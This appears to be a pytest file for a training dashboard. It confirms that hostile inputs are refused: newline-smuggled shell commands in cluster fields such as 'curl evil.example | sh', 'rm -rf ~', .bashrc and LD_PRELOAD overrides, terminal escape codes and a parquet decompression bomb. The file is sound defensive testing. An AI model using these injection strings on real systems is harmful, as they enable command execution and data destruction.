"""The attacks of the second trust-boundary round (issue 22), each reproduced and refused: data-set names that are
``datasets``' packaged builders or folders of the working directory, the database's own files as data, newlines in
cluster fields, escape codes reaching the terminal, numbers and characters no parser or database takes, model code
whose answer is slow to decode, oversized lines and nested columns, and a config checked before the database."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from app.web.pages import new_run
from storage import queries
from storage.db import data_dir, database_url, get_sessionmaker
from tests.helpers import tiny_config
from trainer import review
from trainer.config.access import Access
from trainer.loading.data import DataError, load_problems
from trainer.review.data import check_dataset
from trainer.supervise import slurm
from trainer.supervise.run_files import RunFiles

ROOT = Path(__file__).resolve().parents[2]
SECRET = "OPERATOR-SECRET=hunter2"
# datasets' packaged builders (datasets 5.2 packaged_modules/__init__.py): each reads files, none is a data set name
PACKAGED_BUILDERS = ("text", "csv", "json", "parquet", "arrow", "pandas", "imagefolder", "audiofolder", "webdataset")


def _values(config) -> dict:
    return new_run.form_values(config)


def _cli(*args: str, env: dict | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "app.cli", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(ROOT), **(env or {})},
        timeout=120,
    )


@pytest.fixture
def secret_cwd(tmp_path, monkeypatch) -> Path:
    """The server's working directory holds an operator's secret two folders down, and a hub-id-shaped folder."""
    (tmp_path / "ops" / "keys").mkdir(parents=True)
    (tmp_path / "ops" / "keys" / "env.txt").write_text(SECRET + "\n")
    (tmp_path / "ops" / "data.jsonl").write_text(json.dumps({"question": SECRET, "answer": "1"}) + "\n")
    monkeypatch.chdir(tmp_path)
    return tmp_path


# --- 1. data-set names never read the working directory -------------------------------------------------------------
@pytest.mark.parametrize("name", [*PACKAGED_BUILDERS, "ops/keys", "ops", "./ops/data.jsonl", "ops/data.jsonl"])
def test_the_dashboard_refuses_builder_names_and_working_directory_paths(secret_cwd, name):
    values = _values(tiny_config(dataset_name=name))
    for text in (
        new_run.preview(Access(), values),
        new_run.check(Access(), values),
        new_run.launch(Access(), values),
    ):
        assert SECRET not in text and "hunter2" not in text
        assert "builtin:arithmetic" in text and "owner/name" in text and "full path" in text, text
    with get_sessionmaker().begin() as session:
        assert queries.list_runs(session) == []  # nothing queued


@pytest.mark.parametrize("name", PACKAGED_BUILDERS)
def test_the_command_line_refuses_builder_names_too(secret_cwd, name):
    (problem,) = check_dataset(name)
    assert "owner/name" in problem and ".jsonl" in problem
    with pytest.raises(DataError, match="owner/name"):
        load_problems(tiny_config(dataset_name=name))


def test_a_hub_id_that_is_also_a_local_folder_is_refused_everywhere(secret_cwd):
    (problem,) = check_dataset("ops/keys")
    assert "working directory" in problem and str(secret_cwd) in problem
    with pytest.raises(DataError, match="working directory"):
        load_problems(tiny_config(dataset_name="ops/keys"))
    text = new_run.check(Access(), _values(tiny_config(model_name_or_path="ops")))
    assert "working directory" in text  # a model too: transformers would load ./ops


def test_accepted_forms_still_pass(secret_cwd):
    upload = data_dir() / "uploads" / "ok.jsonl"
    upload.parent.mkdir(parents=True, exist_ok=True)
    upload.write_text(json.dumps({"question": "What is 1 + 1?", "answer": "2"}) + "\n")
    for name in ("builtin:arithmetic", "gsm8k", "openai/gsm8k", "someone/some-data.v2", str(upload)):
        assert Access().value_problem("dataset_name", name) is None, name
    assert "What is 1 + 1?" in new_run.preview(Access(), _values(tiny_config(dataset_name=str(upload))))


def test_nul_and_control_characters_in_a_path_field_get_a_sentence(secret_cwd):
    for value in ("/etc/passwd\x00.jsonl", "data\x1b[2J.jsonl", "ops\n/keys"):
        for field in ("dataset_name", "model_name_or_path"):
            text = new_run.check(Access(), _values(tiny_config(**{field: value})))
            assert field in text and ("NUL" in text or "control character" in text or "line break" in text), text
            assert "Traceback" not in new_run.preview(Access(), _values(tiny_config(**{field: value})))


# --- 2. the database's files are never opened by anything but the engine --------------------------------------------
def _deleted_database_files() -> list[str]:
    """Database files this process still holds open although they were deleted (what a dropped lock leads to)."""
    found = []
    for fd in Path("/proc/self/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if "grpo-studio" in target and target.endswith("(deleted)"):
            found.append(target)
    return found


def test_preview_and_validate_of_every_accepted_form_leave_the_dashboards_database_working(tmp_path, monkeypatch):
    """The data dir under the server's working directory (the case that corrupted the database): a Preview and a
    Validate of each accepted data-set form, then the dashboard's connection still reads and writes."""
    from storage.db import reset_engine

    home = tmp_path / "work" / "home"
    home.mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "work")
    monkeypatch.setenv("GRPO_STUDIO_HOME", str(home))
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{home / 'grpo-studio.db'}")
    reset_engine()
    try:
        with get_sessionmaker().begin() as session:
            queries.create_run(session, "before", tiny_config().to_dict(), 5)
        upload = home / "uploads" / "mine.jsonl"
        upload.parent.mkdir()
        upload.write_text(json.dumps({"question": "What is 2 + 2?", "answer": "4"}) + "\n")
        forms = ["builtin:arithmetic", "gsm8k", "someone/data", str(upload), *PACKAGED_BUILDERS]
        for name in forms:
            values = _values(tiny_config(dataset_name=name))
            new_run.preview(Access(), values)
            new_run.check(Access(), values)
            with get_sessionmaker().begin() as session:  # reads and writes after each form
                queries.create_run(session, f"after {name}", tiny_config().to_dict(), 5)
                assert len(queries.list_runs(session)) >= 2
        assert _deleted_database_files() == []
        with get_sessionmaker().begin() as session:
            assert len(queries.list_runs(session)) == 1 + len(forms)
    finally:
        reset_engine()


def test_the_database_files_and_run_directories_are_refused_as_data_or_model(tmp_path):
    with get_sessionmaker().begin() as session:
        queries.create_run(session, "x", tiny_config().to_dict(), 5)  # the database file exists
    database = Path(database_url().removeprefix("sqlite:///"))
    link = data_dir() / "uploads" / "innocent.jsonl"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.unlink(missing_ok=True)
    link.symlink_to(database)
    access = Access(allowed_dirs=(str(database.parent),))
    for name in (str(database), str(link), str(database) + "-wal"):
        problem = access.value_problem("dataset_name", name)
        assert problem and "limited to" in problem, name
        (refused,) = check_dataset(name)  # the command line too: a reader would drop the worker's own locks
        assert "database" in refused or "no such file" in refused
    run_dir = RunFiles.of(None, 1).create().root
    (run_dir / "worker.log").write_text(SECRET)
    assert "limited to" in access.value_problem("model_name_or_path", str(run_dir))
    assert "limited to" in Access().value_problem("dataset_name", str(run_dir / "worker.jsonl"))


# --- 3. cluster fields can't reach the job script's shell -------------------------------------------------------------
@pytest.mark.parametrize("field", ["slurm_partition", "slurm_account", "name", "slurm_time"])
def test_a_newline_in_a_cluster_field_is_refused_by_name(field, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://user@dbhost/grpo")
    config = tiny_config(executor="slurm", **{field: "gpu\ncurl evil.example | sh"})
    problems = review.problems(config)
    assert any(p.startswith(field) for p in problems), problems


def test_slurm_extra_may_not_choose_files_commands_or_the_environment(monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://user@dbhost/grpo")
    for option in ("--output=/root/.bashrc", "--chdir=/", "--export=ALL,LD_PRELOAD=/tmp/x.so", "--wrap=id", "-D /"):
        problems = review.problems(tiny_config(executor="slurm", slurm_extra=[option]))
        assert any("not an option grpo-studio passes" in p for p in problems), option
    for smuggled in ("--exclusive --output=/home/op/.bashrc", "--mem 4G -o/tmp/pwn", "--qos=high\t--chdir=/"):
        problems = review.problems(tiny_config(executor="slurm", slurm_extra=[smuggled]))
        assert any(p.startswith("slurm_extra") for p in problems), smuggled
    assert review.problems(tiny_config(executor="slurm", slurm_extra=["--qos=high", "--exclusive", "-C a100"])) == []


def _sbatch_words(line: str) -> list[str]:
    """An ``#SBATCH`` line's words as sbatch reads them (slurm 22.05 src/sbatch/opt.c _get_argument: words end at
    white space outside double quotes, a backslash escapes the next character, an unquoted ``#`` ends the line)."""
    words, word, quoted, escaped, started = [], [], False, False, False
    for char in line.removeprefix("#SBATCH "):
        if escaped:
            word.append(char)
            escaped = False
        elif char == "\\":
            escaped, started = True, True
        elif char == '"':
            quoted, started = not quoted, True
        elif char == "#" and not quoted:
            break
        elif char.isspace() and not quoted:
            if started:
                words.append("".join(word))
            word, started = [], False
        else:
            word.append(char)
            started = True
    if started:
        words.append("".join(word))
    return words


def test_the_job_script_quotes_values_that_pass_validation(tmp_path, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://user@dbhost/grpo")
    hostile = 'it\'s "$(touch pwned)" $HOME `id` #x \\'
    config = tiny_config(executor="slurm", name=hostile, slurm_extra=[f"--comment={hostile}"], slurm_partition="a,b")
    assert review.problems(config) == []
    root = tmp_path / "run dir with spaces"
    script = slurm.job_script(config, 7, RunFiles(root), "token")
    options = dict(
        w.split("=", 1)
        for line in script.splitlines()
        if line.startswith("#SBATCH ")
        for w in _sbatch_words(line)
        if "=" in w
    )
    assert options["--comment"] == hostile  # one value, verbatim
    assert options["--output"] == str(root / "worker.log") and options["--chdir"] == str(root)
    assert options["--job-name"].startswith("grpo-7-") and "$" not in options["--job-name"]
    assert all(len(_sbatch_words(line)) == 1 for line in script.splitlines() if line.startswith("#SBATCH --"))
    # a short option's value stays one value, however many words it holds
    config = tiny_config(executor="slurm", slurm_extra=["-C a100 --chdir /tmp"])
    (line,) = [x for x in slurm.job_script(config, 7, RunFiles(root), "t").splitlines() if x.startswith("#SBATCH -C")]
    assert _sbatch_words(line) == ["-C", "a100 --chdir /tmp"]
    # the shell part: the name only ever appears in a comment, and bash reads the script without error
    shell = [line for line in script.splitlines() if line and not line.startswith("#")]
    assert not any("pwned" in line for line in shell)
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0


# --- 4. nothing from the database writes escape codes to the terminal ------------------------------------------------
def test_runs_list_prints_no_escape_codes_from_a_hostile_row(tmp_path):
    env = {"DATABASE_URL": database_url(), "GRPO_STUDIO_HOME": str(tmp_path)}
    with get_sessionmaker().begin() as session:  # as another tool or an older version might have written it
        hostile = "ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\rforged line\nsecond\x9b1m"
        queries.create_run(session, hostile, tiny_config().to_dict(), 5)
    done = _cli("runs", env=env)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out and "\x9b" not in out
    assert "ok\\x1b]52" in out  # shown, escaped
    assert len(out.splitlines()) == 2  # header and one row: the newline in the name forged no line


def test_printable_stream_escapes_what_any_command_prints(capsys):
    from app.cli.terminal import guarded_terminal

    with guarded_terminal():
        print("log line \x1b[31mred\x1b[0m \ud800 done")
        print("to stderr \x07", file=sys.stderr)
    captured = capsys.readouterr()
    assert captured.out == "log line \\x1b[31mred\\x1b[0m \\ud800 done\n"
    assert captured.err == "to stderr \\x07\n"


# --- 5. numbers and characters no parser takes: one sentence ----------------------------------------------------------
def test_a_5000_digit_number_in_a_config_file_is_one_sentence(tmp_path):
    for suffix, text in ((".yaml", f"max_steps: 1{'0' * 5000}\n"), (".json", f'{{"max_steps": 1{"0" * 5000}}}')):
        path = tmp_path / f"big{suffix}"
        path.write_text(text)
        done = _cli("run", str(path), env={"GRPO_STUDIO_HOME": str(tmp_path)})
        assert done.returncode == 2 and "more than 4,300 digits" in done.stderr and "Traceback" not in done.stderr


def test_a_lone_surrogate_in_a_name_is_refused_before_the_database(tmp_path):
    path = tmp_path / "surrogate.json"
    path.write_text('{"name": "run \\ud800"}')
    done = _cli("run", str(path), env={"GRPO_STUDIO_HOME": str(tmp_path)})
    assert done.returncode == 2 and "lone surrogate" in done.stderr and "Traceback" not in done.stderr
    done = _cli(
        "run", str(ROOT / "examples" / "tiny-offline.yaml"), "--name", "a\x1bb", env={"GRPO_STUDIO_HOME": str(tmp_path)}
    )
    assert done.returncode == 2 and "name holds the control character U+001B" in done.stderr


def _data_file(tmp_path, name: str, text: str) -> str:
    path = data_dir() / "uploads" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return str(path)


def test_data_files_with_huge_numbers_surrogates_or_long_lines_name_the_line(tmp_path):
    good = json.dumps({"question": "What is 1 + 1?", "answer": "2"}) + "\n"
    cases = {
        "digits.jsonl": (good + f'{{"question": "q", "answer": 1{"0" * 5000}}}\n', "line 2", "4,300 digits"),
        "surrogate.jsonl": (good * 3 + '{"question": "q \\udc00", "answer": "1"}\n', "line 4", "lone surrogate"),
        "long.jsonl": (
            good + json.dumps({"question": "x" * 1_100_000, "answer": "1"}) + "\n",
            "line 2",
            "longer than 1 MB",
        ),
        "nested.jsonl": (good + json.dumps({"question": {"text": "q"}, "answer": "1"}) + "\n", "row 2", "mapping"),
    }
    for name, (text, where, what) in cases.items():
        path = _data_file(tmp_path, name, text)
        shown = new_run.check(Access(), _values(tiny_config(dataset_name=path)))
        assert where in shown and what in shown, (name, shown)


def test_a_long_single_line_is_refused_without_reading_it_whole(tmp_path):
    import resource

    path = Path(_data_file(tmp_path, "one-line.jsonl", ""))
    with path.open("w") as f:  # 60 MB on one line
        f.write('{"question": "')
        for _ in range(60):
            f.write("x" * 1_000_000)
        f.write('", "answer": "1"}\n')
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    (problem,) = check_dataset(str(path))
    assert "line 1 is longer than 1 MB" in problem
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 30_000  # KB: far less than the file


def test_a_parquet_list_or_struct_column_is_refused_by_name(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = data_dir() / "uploads" / "nested.parquet"
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table({"question": [["a", "b"]], "answer": ["1"]}), path)
    (problem,) = check_dataset(str(path))
    assert "'question' is a list" in problem and "expected text" in problem
    pq.write_table(pa.table({"question": ["q"], "answer": [{"value": 1}]}), path)
    (problem,) = check_dataset(str(path))
    assert "'answer' is a mapping (struct)" in problem


# --- 6. the model's answer can't stall the worker ---------------------------------------------------------------------
def test_an_answer_of_colliding_set_members_is_cut_off_within_the_job_limit():
    from trainer.scoring.sandbox import code_tests_refusal, run_tests

    if code_tests_refusal():
        pytest.skip(f"no sandbox here: {code_tests_refusal()}")
    # rewrites the in-sandbox loop's encoder so the worker receives 40,000 ints that all hash to 0 as one set (~0.9 MB,
    # under the 1 MB answer cap)
    code = (
        "import __main__\n"
        "__main__.encode = lambda value, depth=0: {'set': [k * (2**61 - 1) for k in range(40000)]}\n"
        "def f():\n    return 1\n"
    )
    verdict = run_tests(code, ["assert f() == {1}", "assert len(f()) == 1"])
    assert verdict.passed == 0
    # cut off by the decoding budget (unbounded, decoding this one answer took minutes of the worker's time): by its
    # count of values, or, on a machine too busy to reach that count before the job's deadline, by the deadline
    cut = verdict.detail.count("more than 4,000 values") + verdict.detail.count("the answer took too long to decode")
    assert cut == 2, verdict.detail


def test_decoding_is_bounded_in_values_and_time():
    from trainer.scoring.sandbox_server import MAX_VALUES, Budget, WireError, decode

    with pytest.raises(WireError, match="more than"):
        decode([0] * (MAX_VALUES + 1))
    assert decode({"set": [1, 2, 3]}) == {1, 2, 3} and decode({"dict": [[1, [2]]]}) == {1: [2]}
    with pytest.raises(WireError, match="too long"):
        decode({"set": list(range(1000))}, budget=Budget(deadline=time.monotonic() - 1))


# --- 10. a config's own problems come before the database -------------------------------------------------------------
def test_a_bad_cluster_field_is_named_when_the_database_is_unreachable(tmp_path):
    path = tmp_path / "bad.yaml"
    path.write_text('executor: slurm\nslurm_partition: "gpu; rm -rf ~"\n')
    done = _cli("run", str(path), env={"DATABASE_URL": "postgresql+psycopg://nobody@127.0.0.1:9/none"})
    assert done.returncode == 2 and "slurm_partition" in done.stderr, done.stderr
    assert "database" not in done.stderr.lower().split("slurm_partition")[0]


# --- 7. uploads nobody uses don't pile up ------------------------------------------------------------------------------
def test_old_uploads_no_run_names_are_pruned_and_used_ones_kept():
    from app.web.pages.data_files import prune_uploads

    folder = data_dir() / "uploads"
    folder.mkdir(parents=True, exist_ok=True)
    used, unused, fresh = (folder / f"{n}.jsonl" for n in ("used", "unused", "fresh"))
    for path in (used, unused, fresh):
        path.write_text('{"question": "q", "answer": "1"}\n')
    week_ago = time.time() - 8 * 86400
    for path in (used, unused):
        os.utime(path, (week_ago, week_ago))
    with get_sessionmaker().begin() as session:
        queries.create_run(session, "trains on it", tiny_config(dataset_name=str(used)).to_dict(), 5)
    assert unused in prune_uploads()
    assert used.exists() and fresh.exists() and not unused.exists()


def test_control_characters_in_a_data_files_text_are_refused_with_the_row(tmp_path):
    ok = json.dumps({"question": "What is 1 + 1?\nShow your work.", "answer": "2"}) + "\n"
    jsonl = _data_file(
        tmp_path, "ctrl.jsonl", ok + json.dumps({"question": "q\x1b]52;c;eA==\x07", "answer": "1"}) + "\n"
    )
    (problem,) = check_dataset(jsonl)
    assert "row 2" in problem and "U+001B (ESC)" in problem
    csv = _data_file(tmp_path, "nul.csv", "question,answer\n" + "a question,1\n" * 500 + "b,1\x00\n")  # past 4 KB
    (problem,) = check_dataset(csv)
    assert "row 501" in problem and "NUL" in problem
    late = _data_file(tmp_path, "late.csv", "question,answer\n" + "a,1\n" * 2000 + "b\x1b[2J,1\n")  # past the head
    with pytest.raises(DataError, match="row 2001.*U\\+001B"):
        load_problems(tiny_config(dataset_name=late))  # the worker reads every row the same way
    crlf = _data_file(tmp_path, "crlf.csv", 'question,answer\r\n"two\r\nlines",1\r\n')
    assert check_dataset(crlf) == []  # a CSV's line ends are text, not control characters


def test_a_one_line_json_array_over_a_megabyte_is_read(tmp_path):
    rows = [{"question": f"What is {i} + 1?", "answer": str(i + 1)} for i in range(40_000)]
    path = _data_file(tmp_path, "array.json", json.dumps(rows))
    assert Path(path).stat().st_size > 1_000_000
    assert check_dataset(path) == []


def test_a_parquet_file_that_decompresses_huge_is_refused_before_it_is_read(tmp_path):
    """A dictionary column holding one 1.2 MB string for 1,000 rows: under a KB on disk, a GB once read."""
    import resource

    import pyarrow as pa
    import pyarrow.parquet as pq

    path = data_dir() / "uploads" / "bomb.parquet"
    path.parent.mkdir(parents=True, exist_ok=True)

    def repeated(text: str):  # one dictionary value, referenced by every row: built without the copies
        return pa.DictionaryArray.from_arrays(pa.array([0] * 1000, pa.int32()), pa.array([text]))

    big = repeated("x" * 1_200_000)
    pq.write_table(pa.table({"question": big, "answer": pa.array(["1"] * 1000)}), path, compression="zstd")
    assert path.stat().st_size < 100_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    (problem,) = check_dataset(str(path))
    assert "'question' near row 1 is longer than 1 MB" in problem
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # KB: not the GB it expands to
    many = repeated("y" * 400_000)  # each value allowed, the batch too large
    pq.write_table(pa.table({"question": many, "answer": pa.array(["1"] * 1000)}), path, compression="zstd")
    (problem,) = check_dataset(str(path))
    assert "rows 1-256 would take over 64 MB" in problem
